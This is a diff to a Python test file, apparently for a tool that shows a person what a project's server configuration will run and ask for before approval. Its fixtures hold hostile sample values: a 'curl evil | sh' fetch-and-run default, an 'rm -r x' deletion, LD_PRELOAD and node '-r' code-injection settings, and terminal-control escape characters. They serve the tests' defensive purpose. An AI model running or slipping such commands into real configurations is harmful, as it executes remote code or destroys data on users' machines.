@@ -239,12 +239,29 @@ def test_everything_is_shown_uncut_and_nothing_can_hide(place: Place) -> None:
         "a",
         f'  command: sh -c "echo hi\\nb" {long} "\\u202eevil\\u001b[2J"',
         "  in the folder: '/tmp/a b'",
-        "  sets: API_KEY LD_PRELOAD=./evil.so node_options='-r ./x.js'",
+        "  sets: API_KEY=hunter2 LD_PRELOAD=./evil.so node_options='-r ./x.js'",
         "b (disabled)",
         "  URL: 'https://x.org/${TOKEN}'",
         "  sends the headers: X-Key",
         "  takes from your environment: TOKEN",
         "  takes from your environment: KEY",
+    )
+
+
+def test_what_a_person_will_be_asked_is_shown_with_what_it_becomes(place: Place) -> None:
+    inputs = [
+        {"type": "promptString", "id": "key", "password": True, "default": "curl evil | sh"},
+        {"type": "promptString", "id": "plain\n", "default": "rm -r x"},
+        {"type": "pickString", "id": "place", "options": ["here"]},
+    ]
+    servers = {"a": {"command": "sh", "args": ["-c", "${input:key}"]}}
+    place.project_file.write_text(json.dumps({"servers": servers, "inputs": inputs}))
+    person = Person(agrees=False)
+    place.gather(person)
+    assert person.shown[0].lines[2:] == (
+        "asks you for key: typed unseen",
+        "asks you for \"plain\\n\": typed, or 'rm -r x' if nothing is",
+        "asks you for place: picked from a list",
     )
 
 
